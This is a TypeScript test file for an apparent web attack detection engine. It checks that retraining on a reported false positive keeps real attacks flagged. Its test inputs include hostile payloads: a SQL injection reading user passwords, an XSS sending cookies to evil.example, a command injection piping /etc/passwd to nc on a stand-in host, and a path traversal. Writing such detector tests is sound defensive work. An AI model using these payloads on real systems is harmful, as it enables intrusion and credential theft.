import { afterAll, beforeAll, expect, test } from "vitest";
import { generateRows } from "./learn/fixture-rows.ts";
import type { DatasetRow } from "./learn/sample.ts";
import {
  analysed,
  analyst,
  bytesOf,
  entryOf,
  finished,
  harOf,
  never,
  openTestEngine,
  type TestEngine,
  verdictsOf,
} from "./test-engine.ts";

let opened: TestEngine;
beforeAll(async () => {
  opened = await openTestEngine();
}, 60_000);
afterAll(() => opened.close());

const falsePositive = "order 7 OR 8=three";
const attacks = [
  "1' UNION SELECT name, password FROM users-- -",
  "<script>document.location='//evil.example/'+document.cookie</script>",
  "; cat /etc/passwd | nc evil.example 4444",
  "../../../../etc/passwd",
];

/** Visitors of one request each, an hour apart, so that each is a session of its own. */
const visits = (values: readonly string[], from: number) =>
  harOf(
    values.map((value, i) =>
      entryOf(`https://shop.example/search?q=${encodeURIComponent(value)}`, {
        at: from + 3600 * i,
        cookie: `visit=${from}-${i}`,
      }),
    ),
  );

/** Values that are taken for attacks now. */
async function alerting(rows: readonly Pick<DatasetRow, "text" | "place">[]): Promise<Set<string>> {
  const found = new Set<string>();
  for (const { text, place } of rows) {
    const given = place === null ? { payload: text } : { payload: text, place };
    const said = await opened.engine.predictPayload(given);
    if (!Array.isArray(said) && said.class !== "benign") found.add(text);
  }
  return found;
}

let days = 0;
async function bringSessions(count: number): Promise<void> {
  const day = ++days;
  const lines = Array.from(
    { length: count },
    (_, i) =>
      `10.${day}.${i >> 8}.${i & 255} - - [05/Jan/2026:08:00:00 +0000] "GET /page/${i % 50}?q=word${i % 97} HTTP/1.1" 200 12 "-" "Mozilla/5.0"`,
  );
  await analysed(opened, lines.join("\n"), `day-${day}.log`);
}

async function done(jobId: string): Promise<Record<string, unknown>> {
  const job = await finished(opened, jobId);
  expect(job.error).toBeNull();
  return job.result!;
}

test("a false positive is reported, a model trained on it, gated, canaried to all sessions: the payload alerts no more, every attack that was sent still does, and of all labelled ones no fewer than before", async () => {
  const { engine } = opened;
  const rows = generateRows("loop", 4500);
  const labelledAttacks = rows.filter(({ label }) => label !== "benign");
  const alertedBefore = await alerting(labelledAttacks);
  expect(alertedBefore.size).toBeGreaterThan(1000);
  const lines = rows.map(({ text, label, place }) => JSON.stringify({ text, label, place }));
  const imported = { file_name: "labelled.jsonl", format: "jsonl" } as const;
  await done((await engine.datasets.import(bytesOf(lines.join("\n")), imported, analyst, never)).job_id);

  const honest = await analysed(opened, visits([falsePositive], 0), "honest.har");
  const hostile = await analysed(opened, visits(attacks, 0), "hostile.har");
  const [wrong] = await verdictsOf(opened, honest.evidence.id);
  expect(wrong).toMatchObject({ class: "sql_injection" });
  expect(wrong!.verdict).not.toBe("benign");
  const flagged = await verdictsOf(opened, hostile.evidence.id);
  expect(flagged.map(({ verdict }) => verdict)).not.toContain("benign");

  await engine.labels.addFalsePositive({ verdict_id: wrong!.id, reason: "how our shop numbers its orders" }, analyst);
  for (const text of attacks) {
    const [found] = flagged.filter(({ payload }) => payload !== null && text.startsWith(payload.slice(0, 6)));
    await engine.labels.addSample({ sample_type: "payload", data: text, label: found?.class ?? "xss" }, analyst);
  }
  await done((await engine.datasets.make({ why: "the first false positive" }, analyst)).job_id);
  const { job_id } = await engine.models.train({ dataset_version: null, seed: "s", start: "champion" }, analyst);
  const model_id = (await done(job_id)).model_id as string;
  const entry = (await engine.models.list()).models.find(({ metadata }) => metadata.id === model_id)!;
  expect(entry.evaluation!.gates.filter(({ verdict }) => verdict !== "passed")).toEqual([]);
  expect(entry.may_decide).toBe(true);

  await engine.canary.promote({ model_id, canary_percent: 0 }, analyst);
  for (const percent of [1, 10, null]) {
    await bringSessions(1500);
    await expect.poll(async () => (await engine.canary.get()).percent, { timeout: 20_000 }).toBe(percent);
  }
  expect((await engine.canary.get()).champion).toBe(model_id);

  const again = await analysed(opened, visits([falsePositive], 86_400), "honest-again.har");
  expect(await verdictsOf(opened, again.evidence.id)).toMatchObject([{ verdict: "benign" }]);
  const still = await analysed(opened, visits(attacks, 86_400), "hostile-again.har");
  const now = await verdictsOf(opened, still.evidence.id);
  expect(now).toHaveLength(attacks.length);
  expect(now.map(({ verdict }) => verdict)).not.toContain("benign");
  // Of all labelled attacks, and not only those that were sent. A few between much ordinary text, at the threshold, change sides.
  const alertsNow = await alerting(labelledAttacks);
  expect(alertsNow.size).toBeGreaterThanOrEqual(alertedBefore.size);
  expect(alertedBefore.difference(alertsNow).size).toBeLessThan(0.01 * alertedBefore.size);
  const [report] = await engine.datasets.falsePositives();
  expect(report).toMatchObject({ reason: "how our shop numbers its orders", model_id });
  expect(report!.dataset_version).not.toBeNull();
}, 300_000);
